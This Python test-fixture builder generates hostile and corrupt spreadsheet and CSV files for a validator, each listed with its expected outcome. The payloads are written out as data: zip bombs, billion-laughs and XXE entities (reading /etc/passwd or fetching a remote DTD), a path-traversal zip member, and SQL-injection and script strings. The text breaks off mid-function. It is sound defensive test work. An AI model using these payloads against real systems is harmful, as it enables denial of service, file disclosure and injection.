"""Build the hostile and broken files of tests/test_filecheck.py: how each one must end.

Run `python -m tests.data.build_bad` to write them into tests/data/bad/ (git-ignored; the largest
are tens of megabytes once unpacked), or call `build(out_dir)`. Nothing is committed: every file
is made here from code, deterministically.

HOSTILE maps a file name to its outcome: `Refused` (the message fragments that must appear, and
the sheet/cell they must name, None: not checked) or `Loaded` (the number of fact rows, and
values that must be stored exactly as written). docs/hostile-files.md lists the classes and how
each ends; keep it in step with this module.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

import xlwt

YEAR = 2023

# Serial dates (1900 system) for 2023-03-05, -12, -20.
MAR05, MAR12, MAR20 = 44990, 44997, 45005


@dataclass(frozen=True)
class Refused:
    """The file is refused: each fragment appears in one error message naming sheet and cell."""

    fragments: tuple[str, ...]
    sheet: str | None = None
    cell: str | None = None


@dataclass(frozen=True)
class Loaded:
    """The file loads `rows` fact rows; `stored` maps a facts column to values found there."""

    rows: int
    stored: dict[str, set] = field(default_factory=dict)
    warnings: tuple[str, ...] = ()  # fragments that must appear among the warnings


HOSTILE: dict[str, Refused | Loaded] = {}
CLASSES: dict[str, str] = {}  # file name -> class (for docs/hostile-files.md)
_MAKERS: dict[str, Callable[[], bytes]] = {}


def _add(name: str, klass: str, outcome: Refused | Loaded, make: Callable[[], bytes]) -> None:
    HOSTILE[name] = outcome
    CLASSES[name] = klass
    _MAKERS[name] = make


# =============================================================================================
# A minimal .xlsx written by hand, so every byte of the sheet XML is under the test's control
# =============================================================================================

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    "{sheets}"
    "</Types>"
)
_SHEET_TYPE = (
    '<Override PartName="/xl/worksheets/sheet{n}.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RNS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
# Style 0: general; style 1: a date (built-in number format 14).
_STYLES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    f"<styleSheet {_NS}>"
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border/></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    "</cellXfs></styleSheet>"
)


def _col(n: int) -> str:
    letters = ""
    while n:
        n, rem = divmod(n - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


class D(int):
    """A date serial: written with the date style."""


class Raw(str):
    """Cell XML written as is (inside <c r=..>...</c>), e.g. a formula."""


def _cell(ref: str, value) -> str:
    if value is None or value == "":
        return ""
    if isinstance(value, Raw):
        return f'<c r="{ref}"{value}</c>'
    if isinstance(value, D):
        return f'<c r="{ref}" s="1"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    text = escape(str(value))
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def sheet_xml(rows: list[list], prolog: str = "", extra: str = "") -> str:
    """A worksheet part with rows from A1 (inline strings, D(...) dates, Raw(...) cell XML)."""
    body = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(_cell(f"{_col(c)}{r}", v) for c, v in enumerate(row, start=1))
        body.append(f'<row r="{r}">{cells}</row>')
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}'
        f"<worksheet {_NS} {_RNS}>{extra}<sheetData>{''.join(body)}</sheetData></worksheet>"
    )


def xlsx(
    sheets: list[tuple[str, str]],
    *,
    hidden: set[str] = frozenset(),
    workbook_prolog: str = "",
    extra_parts: dict[str, bytes] | None = None,
) -> bytes:
    """An .xlsx from (sheet name, worksheet XML) pairs, with fixed timestamps."""
    entries: dict[str, bytes] = {
        "[Content_Types].xml": _CONTENT_TYPES.format(
            sheets="".join(_SHEET_TYPE.format(n=n) for n in range(1, len(sheets) + 1))
        ).encode(),
        "_rels/.rels": _ROOT_RELS.encode(),
    }
    listed = "".join(
        f'<sheet name="{escape(name, {chr(34): "&quot;"})}" sheetId="{n}" r:id="rId{n}"'
        + (' state="hidden"' if name in hidden else "")
        + "/>"
        for n, (name, _xml) in enumerate(sheets, start=1)
    )
    entries["xl/workbook.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{workbook_prolog}'
        f"<workbook {_NS} {_RNS}><sheets>{listed}</sheets></workbook>"
    ).encode()
    rels = "".join(
        f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n in range(1, len(sheets) + 1)
    )
    style_rel = (
        f'<Relationship Id="rId{len(sheets) + 1}" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/styles" Target="styles.xml"/>'
    )
    entries["xl/_rels/workbook.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rels}{style_rel}</Relationships>"
    ).encode()
    entries["xl/styles.xml"] = _STYLES.encode()
    for n, (_name, xml) in enumerate(sheets, start=1):
        entries[f"xl/worksheets/sheet{n}.xml"] = xml.encode()
    entries.update(extra_parts or {})
    return _zip(entries)


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            info = zipfile.ZipInfo(name, (2023, 12, 31, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return out.getvalue()


HEADER = ["日期", "乡镇", "类别", "数量", "单位", "地点", "备注"]


def ledger_rows() -> list[list]:
    """Header on row 1 and three valid rows (2-4) of 丰州镇, March 2023."""
    return [
        list(HEADER),
        [D(MAR05), "丰州镇", "街面巡查", 2, "次", "主街", ""],
        [D(MAR12), "丰州镇", "发放宣传资料", 100, "份", "集市", ""],
        [D(MAR20), "丰州镇", "法治讲座", 1, "场", "礼堂", ""],
    ]


def patched(changes: dict[str, object]) -> list[list]:
    """ledger_rows() with cells replaced, e.g. {"D3": "x"}."""
    rows = ledger_rows()
    for ref, value in changes.items():
        letters = "".join(ch for ch in ref if ch.isalpha())
        r = int(ref[len(letters) :]) - 1
        c = sum((ord(ch) - 64) * 26**i for i, ch in enumerate(reversed(letters))) - 1
        while len(rows[r]) <= c:
            rows[r].append("")
        rows[r][c] = value
    return rows


def ledger(changes: dict[str, object] | None = None, sheet: str = "台账") -> bytes:
    """A one-sheet .xlsx of ledger_rows() with the given cells replaced."""
    return xlsx([(sheet, sheet_xml(patched(changes or {})))])


def far(ref: str, value) -> bytes:
    """A valid ledger plus one cell at `ref` (below row 4), in a row of its own."""
    row = int("".join(ch for ch in ref if ch.isdigit()))
    xml = sheet_xml(ledger_rows()).replace(
        "</sheetData>", f'<row r="{row}">{_cell(ref, value)}</row></sheetData>'
    )
    return xlsx([("台账", xml)])


def valid() -> bytes:
    """A valid ledger .xlsx (3 rows)."""
    return ledger()


# =============================================================================================
# Corrupt and truncated zips
# =============================================================================================


def _flip_in_sheet() -> bytes:
    data = bytearray(valid())
    at = data.find(b"xl/worksheets/sheet1.xml") + 40  # inside the compressed sheet data
    for i in range(at, at + 8):
        data[i] ^= 0xFF
    return bytes(data)


def _missing_workbook() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(valid()))
    return _zip({n: source.read(n) for n in source.namelist() if n != "xl/workbook.xml"})


_add(
    "zip_truncated_half.xlsx",
    "损坏或截断的压缩包",
    Refused(("已损坏",)),
    lambda: valid()[: len(valid()) // 2],
)
_add(
    "zip_truncated_tail.xlsx",
    "损坏或截断的压缩包",
    Refused(("已损坏",)),
    lambda: valid()[:-30],
)
_add("zip_flipped_bytes.xlsx", "损坏或截断的压缩包", Refused(("已损坏",)), _flip_in_sheet)
_add("zip_empty_archive.xlsx", "损坏或截断的压缩包", Refused(("已损坏",)), lambda: _zip({}))
_add("zip_no_workbook_part.xlsx", "损坏或截断的压缩包", Refused(("已损坏",)), _missing_workbook)
_add(
    "zip_header_only.xlsx",
    "损坏或截断的压缩包",
    Refused(("已损坏",)),
    lambda: b"PK\x03\x04" + bytes(range(256)) * 4,
)

# =============================================================================================
# Not spreadsheets
# =============================================================================================

_add(
    "pdf_named.xlsx",
    "不是表格的文件",
    Refused(("已损坏",)),
    lambda: b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n",
)
_add(
    "word_named.xlsx",
    "不是表格的文件",
    Refused(("已损坏",)),
    lambda: _zip(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "word/document.xml": b'<?xml version="1.0"?><document>text</document>',
        }
    ),
)
_add(
    "web_page_named.xls",
    "不是表格的文件",
    Refused(("已损坏",)),
    lambda: "<html><body><table><tr><td>日期</td><td>乡镇</td></tr></table></body></html>".encode(),
)
_add(
    "program_named.xls",
    "不是表格的文件",
    Refused(("已损坏",)),
    lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(512),
)
_add(
    "utf16_text.csv",
    "不是表格的文件",
    Refused(("无法识别文件编码",)),
    lambda: "日期,乡镇,类别,数量\n2023-03-05,丰州镇,街面巡查,2\n".encode("utf-16"),
)


# =============================================================================================
# Password protection
# =============================================================================================


def _encrypted(password: str = "wuxiang") -> bytes:
    import msoffcrypto.format.ooxml  # dev dependency: writes ECMA-376 agile encryption

    out = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(valid())).encrypt(password, out)
    return out.getvalue()


def _xls_with_filepass() -> bytes:
    """An .xls whose CODEPAGE record is turned into FILEPASS: what Excel's password leaves."""
    import tempfile

    import olefile

    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("台账")
    for r, row in enumerate([HEADER[:5], ["2023-03-05", "丰州镇", "街面巡查", 2, "次"]]):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "p.xls"
        book.save(str(path))
        ole = olefile.OleFileIO(str(path), write_mode=True)
        stream = bytearray(ole.openstream("Workbook").read())
        pos = 0
        while pos + 4 <= len(stream):
            kind, size = struct.unpack_from("<HH", stream, pos)
            if kind == 0x0042:  # CODEPAGE, in the workbook globals
                struct.pack_into("<H", stream, pos, 0x002F)
                break
            pos += 4 + size
        ole.write_stream("Workbook", bytes(stream))
        ole.close()
        return path.read_bytes()


_add("password.xlsx", "设有密码的工作簿", Refused(("文件设有密码",)), _encrypted)
_add("password_biff.xls", "设有密码的工作簿", Refused(("文件设有密码",)), _xls_with_filepass)
_add("password_named.xls", "设有密码的工作簿", Refused(("文件设有密码",)), _encrypted)
_add("password.xlsm", "设有密码的工作簿", Refused(("文件设有密码",)), _encrypted)


# =============================================================================================
# Zip bombs: small files that unpack to far more than the limits
# =============================================================================================


def _bomb(unpacked: int, declared: int | None = None) -> bytes:
    """A valid workbook whose sheet XML is padded with `unpacked` bytes of whitespace."""
    head = sheet_xml(ledger_rows())
    cut = head.index("<sheetData>")
    prefix, suffix = head[:cut].encode(), head[cut:].encode()
    # The padding is one whitespace run between the root element and <sheetData>, streamed.
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc = zlib.crc32(prefix)
    body = [packer.compress(prefix)]
    block = b" " * (1 << 20)
    left = unpacked
    while left > 0:
        chunk = block[: min(left, len(block))]
        body.append(packer.compress(chunk))
        crc = zlib.crc32(chunk, crc)
        left -= len(chunk)
    body.append(packer.compress(suffix))
    crc = zlib.crc32(suffix, crc)
    body.append(packer.flush())
    stream = b"".join(body)
    size = len(prefix) + unpacked + len(suffix)
    normal = zipfile.ZipFile(io.BytesIO(valid()))
    entries = {n: normal.read(n) for n in normal.namelist() if n != "xl/worksheets/sheet1.xml"}
    return _zip_with_raw(entries, "xl/worksheets/sheet1.xml", stream, crc, declared or size)


def _zip_with_raw(
    entries: dict[str, bytes], name: str, stream: bytes, crc: int, declared: int
) -> bytes:
    """A zip of `entries` plus one member given as a raw deflate stream with a chosen declared size."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for n, content in entries.items():
            info = zipfile.ZipInfo(n, (2023, 12, 31, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    data = bytearray(out.getvalue())
    cd_at = struct.unpack_from("<I", data, len(data) - 6)[0]
    local_at = cd_at
    encoded = name.encode()
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5F9F, crc, len(stream), declared, len(encoded), 0
    )
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        20,
        20,
        0,
        8,
        0,
        0x5F9F,
        crc,
        len(stream),
        declared,
        len(encoded),
        0,
        0,
        0,
        0,
        0,
        local_at,
    )
    old_cd = bytes(data[cd_at : len(data) - 22])
    end = bytearray(data[len(data) - 22 :])
    new_cd_at = local_at + len(local) + len(encoded) + len(stream)
    count = struct.unpack_from("<H", end, 10)[0] + 1
    struct.pack_into("<HH", end, 8, count, count)
    struct.pack_into("<I", end, 12, len(old_cd) + len(central) + len(encoded))
    struct.pack_into("<I", end, 16, new_cd_at)
    return bytes(data[:cd_at]) + local + encoded + stream + old_cd + central + encoded + bytes(end)


_add(
    "zip_bomb_250mb.xlsx",
    "zip 炸弹",
    Refused(("解压后过大", "zip 炸弹")),
    lambda: _bomb(250 << 20),
)
_add(
    "zip_bomb_ratio.xlsx",
    "zip 炸弹",
    Refused(("压缩比异常", "zip 炸弹")),
    lambda: _bomb(120 << 20),
)
# Declares a tiny size but unpacks to 250 MB: caught while streaming (or as a CRC/size error).
_add(
    "zip_bomb_lying_size.xlsx",
    "zip 炸弹",
    Refused(("文件",)),
    lambda: _bomb(250 << 20, declared=4096),
)


def _many_parts() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(valid()))
    entries = {n: source.read(n) for n in source.namelist()}
    entries.update({f"xl/media/pad{i}.bin": b"" for i in range(12_000)})
    return _zip(entries)


_add("zip_many_parts.xlsx", "zip 炸弹", Refused(("结构异常",)), _many_parts)


# =============================================================================================
# XML entity expansion and external entities
# =============================================================================================

_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>\n"
)
_XXE = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
_XXE_HTTP = '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://203.0.113.9/x.dtd"> %ext;]>\n'


def _with_prolog(prolog: str, entity: str) -> bytes:
    rows = patched({"F2": Raw(f' t="inlineStr"><is><t>&{entity};</t></is>')})
    return xlsx([("台账", sheet_xml(rows, prolog=prolog))])


_add(
    "billion_laughs.xlsx",
    "XML 实体扩展",
    Refused(("DOCTYPE/ENTITY", "sheet1.xml")),
    lambda: _with_prolog(_LAUGHS, "lol9"),
)
_add(
    "xxe_local_file.xlsx",
    "XML 外部实体",
    Refused(("DOCTYPE/ENTITY",)),
    lambda: _with_prolog(_XXE, "xxe"),
)
_add(
    "xxe_remote_dtd.xlsx",
    "XML 外部实体",
    Refused(("DOCTYPE/ENTITY",)),
    lambda: _with_prolog(_XXE_HTTP, "amp"),
)
_add(
    "xxe_in_workbook_part.xlsx",
    "XML 外部实体",
    Refused(("DOCTYPE/ENTITY", "workbook.xml")),
    lambda: xlsx([("台账", sheet_xml(ledger_rows()))], workbook_prolog=_XXE),
)
_add(
    "xxe_in_shared_strings.xlsx",
    "XML 外部实体",
    Refused(("DOCTYPE/ENTITY", "sharedStrings.xml")),
    lambda: xlsx(
        [("台账", sheet_xml(ledger_rows()))],
        extra_parts={
            "xl/sharedStrings.xml": (
                '<?xml version="1.0"?>\n' + _XXE + f"<sst {_NS}><si><t>&xxe;</t></si></sst>"
            ).encode()
        },
    ),
)

# =============================================================================================
# Sheets far over the limits (row limit 100,000 by default)
# =============================================================================================


def _many_rows(n: int) -> bytes:
    """A sheet with a header and n data rows, streamed so the builder stays small."""
    head = sheet_xml([HEADER])
    cut = head.index("</sheetData>")
    row = '<row r="{r}"><c r="A{r}" s="1"><v>44990</v></c><c r="D{r}"><v>1</v></c></row>'
    body = "".join(row.format(r=r) for r in range(2, n + 2))
    return xlsx([("台账", head[:cut] + body + head[cut:])])


_add(
    "rows_over_limit.xlsx",
    "超出行列上限",
    Refused(("行数过多", "100,000"), sheet="台账"),
    lambda: _many_rows(1_048_575),
)
_add(
    "far_cell_xfd1048576.xlsx",
    "超出行列上限",
    Refused(("行数过多",), sheet="台账"),
    lambda: far("XFD1048576", 1),
)
_add(
    "far_column_xfd.xlsx",
    "超出行列上限",
    Refused(("列数过多",), sheet="台账"),
    lambda: far("XFD5", "x"),
)
_add(
    "wide_and_long.xlsx",
    "超出行列上限",
    Refused(("范围过大",), sheet="台账"),
    lambda: far("ALL99999", "x"),
)


def _in_row(row: int, cell_xml: str) -> bytes:
    """A valid ledger plus `cell_xml` written inside a row numbered `row`."""
    xml = sheet_xml(ledger_rows()).replace(
        "</sheetData>", f'<row r="{row}">{cell_xml}</row></sheetData>'
    )
    return xlsx([("台账", xml)])


# calamine places a cell by its own reference, whatever the row around it says.
_add(
    "cell_row_below_its_row.xlsx",
    "超出行列上限",
    Refused(("行数过多",), sheet="台账"),
    lambda: _in_row(5, '<c r="Z1048576"><v>1</v></c>'),
)
# calamine reads lower-case references too.
_add(
    "lower_case_far_cell.xlsx",
    "超出行列上限",
    Refused(("列数过多",), sheet="台账"),
    lambda: _in_row(5, '<c r="xfd5"><v>1</v></c>'),
)
# A namespace prefix on a cell in a sheet written without one: still a cell to calamine.
_add(
    "prefixed_far_cell.xlsx",
    "超出行列上限",
    Refused(("列数过多",), sheet="台账"),
    lambda: _in_row(
        5,
        '<x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="XFD5">'
        "<x:v>1</x:v></x:c>",
    ),
)


def _cells_without_reference() -> bytes:
    cells = "<c><v>1</v></c>" * 3000
    xml = sheet_xml(ledger_rows()).replace("</sheetData>", f'<row r="5">{cells}</row></sheetData>')
    return xlsx([("台账", xml)])


_add(
    "cells_without_reference.xlsx",
    "超出行列上限",
    Refused(("列数过多",), sheet="台账"),
    _cells_without_reference,
)


def _xls_far_cell() -> bytes:
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("台账")
    for c, text in enumerate(HEADER[:5]):
        sheet.write(0, c, text)
    sheet.write(65535, 255, 1)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


_add("far_cell.xls", "超出行列上限", Refused(("范围过大",), sheet="台账"), _xls_far_cell)


def _csv_lines(n: int) -> bytes:
    lines = ["日期,乡镇,类别,数量,单位"] + ["2023-03-05,丰州镇,街面巡查,1,次"] * n
    return "\n".join(lines).encode()


_add("rows_over_limit.csv", "超出行列上限", Refused(("行数过多",)), lambda: _csv_lines(150_000))

# =============================================================================================
# Formulas
# =============================================================================================

_add(
    "formula_without_value.xlsx",
    "公式",
    Refused(("公式", "没有保存计算结果"), sheet="台账", cell="D3"),
    lambda: ledger({"D3": Raw("><f>50*2</f>")}),
)
_add(
    "shared_formula_without_value.xlsx",
    "公式",
    Refused(("公式",), sheet="台账", cell="D4"),
    lambda: ledger({"D3": Raw("><f>50*2</f><v>100</v>"), "D4": Raw('><f t="shared" si="0"/>')}),
)
_add(
    "formula_with_cached_value.xlsx",
    "公式",
    Loaded(3, {"quantity": {100.0}}),
    lambda: ledger({"D3": Raw("><f>50*2</f><v>100</v>")}),
)
_add(
    "formula_error_value.xlsx",
    "公式",
    Refused(("数量",), sheet="台账", cell="D3"),
    lambda: ledger({"D3": Raw(' t="e"><f>1/0</f><v>#DIV/0!</v>')}),
)
# A formula left without result on a hidden sheet does not refuse the file (the sheet is skipped).
_add(
    "formula_on_hidden_sheet.xlsx",
    "公式",
    Loaded(3, warnings=("隐藏",)),
    lambda: xlsx(
        [
            ("台账", sheet_xml(ledger_rows())),
            ("计算", sheet_xml([["合计"], [Raw("><f>SUM(台账!D2:D4)</f>")]])),
        ],
        hidden={"计算"},
    ),
)

# =============================================================================================
# Awkward text: huge cells, control characters, emoji, right-to-left, SQL and HTML look-alikes
# =============================================================================================

MEGABYTE_TEXT = "很长的备注" * (1_000_000 // 15)
_add(
    "megabyte_note.xlsx",
    "超长文本",
    Loaded(
        3,
        {
            "note": {
                "很长的备注很长的备注很长的备注很长的备注很长的备注很长的备注很长的备注很长的备注…"
            }
        },
    ),
    lambda: ledger({"G2": MEGABYTE_TEXT}),
)
_add(
    "megabyte_category.xlsx",
    "超长文本",
    Refused(("不是指标目录中的类别",), sheet="台账", cell="C2"),
    lambda: ledger({"C2": MEGABYTE_TEXT}),
)
# Excel writes control characters as _x0001_ escapes; a raw one is not allowed in XML at all.
_add(
    "control_characters.xlsx",
    "控制字符",
    Loaded(3, {"place": {"主街 北段"}, "note": {"备注 换行 结束"}}),
    lambda: ledger({"F2": "主街 _x0007_ 北段", "G3": "备注\t换行\r\n结束"}),
)
_add(
    "raw_control_character.xlsx",
    "控制字符",
    Loaded(3, {"place": {"主 街"}}),
    lambda: ledger({"F2": Raw(' t="inlineStr"><is><t>主\x01街</t></is>')}),
)
# The township is still recognised: matching ignores what is not a letter of its name.
_add(
    "control_in_township.xlsx",
    "控制字符",
    Loaded(3),
    lambda: ledger({"B3": "丰州\u0008镇"}),
)
EMOJI_RTL = {"🎉 村委会 👨‍👩‍👧", "مركز القرية", "\u202e镇政府\u202c", "שלום"}
_add(
    "emoji_and_rtl.xlsx",
    "表情符号与从右到左文字",
    Loaded(
        3, {"place": {"🎉 村委会 👨‍👩‍👧", "مركز القرية", "\u202e镇政府\u202c"}, "note": {"שלום"}}
    ),
    lambda: ledger(
        {"F2": "🎉 村委会 👨‍👩‍👧", "F3": "مركز القرية", "F4": "\u202e镇政府\u202c", "G2": "שלום"}
    ),
)
_add(
    "emoji_in_category.xlsx",
    "表情符号与从右到左文字",
    Refused(("不是指标目录中的类别",), sheet="台账", cell="C4"),
    lambda: ledger({"C4": "法治讲座🎉"}),
)
SQL_TEXT = "'); DROP TABLE facts; --"
HTML_TEXT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
_add(
    "sql_and_html_text.xlsx",
    "SQL 与 HTML 样式文本",
    Loaded(3, {"place": {SQL_TEXT, '=HYPERLINK("http://x")'}, "note": {HTML_TEXT[:40] + "…"}}),
    lambda: ledger({"F2": SQL_TEXT, "G2": HTML_TEXT, "F3": '=HYPERLINK("http://x")'}),
)
_add(
    "html_sheet_and_cell.xlsx",
    "SQL 与 HTML 样式文本",
    Refused(("不是本县的乡镇",), sheet="<b>台账</b>", cell="B2"),
    lambda: ledger({"B2": "<script>alert(1)</script>"}, sheet="<b>台账</b>"),
)
# The township's name is found inside the text (as in 丰州镇民政办); the rest is never executed.
_add(
    "sql_in_township.csv",
    "SQL 与 HTML 样式文本",
    Loaded(1),
    lambda: "日期,乡镇,类别,数量,单位\n2023-03-05,丰州镇' OR '1'='1,街面巡查,2,次\n".encode(),
)

# =============================================================================================
# Numbers and dates at the edges
# =============================================================================================

_add(
    "nan_quantity.xlsx",
    "特殊数值",
    Refused(("数量",), sheet="台账", cell="D2"),
    lambda: ledger({"D2": Raw("><v>NaN</v>")}),
)
_add(
    "inf_quantity.xlsx",
    "特殊数值",
    Refused(("数量",), sheet="台账", cell="D3"),
    lambda: ledger({"D3": Raw("><v>INF</v>")}),
)
_add(
    "huge_float_quantity.xlsx",
    "特殊数值",
    Refused(("数量过大",), sheet="台账", cell="D4"),
    lambda: ledger({"D4": 1e308}),
)
_add(
    "nan_inf_text.csv",
    "特殊数值",
    Refused(("数量",), cell="D2"),
    lambda: (
        "日期,乡镇,类别,数量,单位\n2023-03-05,丰州镇,街面巡查,nan,次\n"
        "2023-03-06,丰州镇,街面巡查,inf,次\n2023-03-07,丰州镇,街面巡查,1e308,次\n".encode()
    ),
)
_add(
    "negative_date_serial.xlsx",
    "特殊数值",
    Refused(("日期",), sheet="台账", cell="A3"),
    lambda: ledger({"A3": D(-5)}),
)
_add(
    "huge_date_serial.xlsx",
    "特殊数值",
    Refused(("日期",), sheet="台账", cell="A2"),
    lambda: ledger({"A2": D(2_958_466)}),
)

# =============================================================================================
# Headers and visibility
# =============================================================================================

_add(
    "duplicated_headers.xlsx",
    "重复表头",
    Refused(("表头重复", "D1"), sheet="台账", cell="H1"),
    lambda: ledger({"H1": "数量", "H2": 5, "H3": 7, "H4": 9}),
)
_add(
    "data_only_on_hidden_sheet.xlsx",
    "隐藏工作表与隐藏行",
    Refused(("隐藏的工作表「台账」未导入",)),
    lambda: xlsx([("台账", sheet_xml(ledger_rows()))], hidden={"台账"}),
)
_add(
    "hidden_rows.xlsx",
    "隐藏工作表与隐藏行",
    Loaded(3),
    lambda: xlsx(
        [
            (
                "台账",
                sheet_xml(ledger_rows()).replace('<row r="3">', '<row r="3" hidden="1">'),
            )
        ]
    ),
)
_add(
    "zip_path_traversal.xlsx",
    "损坏或截断的压缩包",
    Loaded(3),
    lambda: xlsx(
        [("台账", sheet_xml(ledger_rows()))], extra_parts={"../../../tmp/evil.xml": b"<x/>"}
    ),
)

# =============================================================================================
# CSV: odd separators, mixed encodings
# =============================================================================================

_CSV_ROWS = [
    ["日期", "乡镇", "类别", "数量", "单位"],
    ["2023-03-05", "丰州镇", "街面巡查", "2", "次"],
    ["2023-03-12", "丰州镇", "发放宣传资料", "100", "份"],
]


def _csv(sep: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: "\r\n".join(sep.join(r) for r in _CSV_ROWS).encode(encoding)


_add("semicolon.csv", "CSV 分隔符与编码", Loaded(2), _csv(";"))
_add("pipe.csv", "CSV 分隔符与编码", Loaded(2), _csv("|"))
_add("tab_gbk.csv", "CSV 分隔符与编码", Loaded(2), _csv("\t", "gbk"))
_add("caret_separated.csv", "CSV 分隔符与编码", Refused(("未找到表头",)), _csv("^"))
_add(
    "mixed_encoding.csv",
    "CSV 分隔符与编码",
    Refused(("编码不一致", "第 3 行")),
    lambda: (
        "\r\n".join(",".join(r) for r in _CSV_ROWS[:2]).encode("utf-8")
        + b"\r\n"
        + ",".join(_CSV_ROWS[2]).encode("gbk")
    ),
)


# =============================================================================================
# What Excel, WPS and LibreOffice really write: read, never turned away by the guard
# =============================================================================================

_XLS_ROWS = [
    HEADER[:5],
    ["2023-03-05", "丰州镇", "街面巡查", 2, "次"],
    ["2023-03-12", "丰州镇", "发放宣传资料", 100, "份"],
]


def _xls(rewrite: Callable[[int, bytes], bytes] = lambda kind, record: record) -> bytes:
    """An .xls of _XLS_ROWS (乡镇 written as a formula) with each BIFF record passed through
    `rewrite(kind, whole record)`, packed again into an OLE file."""
    from xlwt import CompoundDoc

    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("台账")
    for r, row in enumerate(_XLS_ROWS):
        for c, value in enumerate(row):
            sheet.write(r, c, xlwt.Formula('"丰州"&"镇"') if r and c == 1 else value)
    biff = book.get_biff_data()
    out, pos = bytearray(), 0
    while pos + 4 <= len(biff):
        kind, size = struct.unpack_from("<HH", biff, pos)
        out += rewrite(kind, biff[pos : pos + 4 + size])
        pos += 4 + size
    target = io.BytesIO()
    CompoundDoc.XlsDoc().save(target, bytes(out))
    return target.getvalue()


def _text_result(kind: int, record: bytes) -> bytes:
    """A FORMULA record made to cache a text result, with the STRING record that holds it: what
    Excel writes for every formula returning text (the STRING record's first bytes are the
    text's length and flags, not a cell position)."""
    if kind != 0x0006:
        return record
    body = bytearray(record[4:])
    body[6:14] = b"\x00" * 6 + b"\xff\xff"  # result type: text, in the next STRING record
    text = struct.pack("<HB", 3, 1) + "丰州镇".encode("utf-16-le")
    return record[:4] + bytes(body) + struct.pack("<HH", 0x0207, len(text)) + text


def _x14_dropdown() -> bytes:
    """An Excel 2010 dropdown list pointing at another sheet, and an x14 conditional format:
    formulas (<xm:f>) inside <extLst>, after the cells."""
    ext = (
        '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
        'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
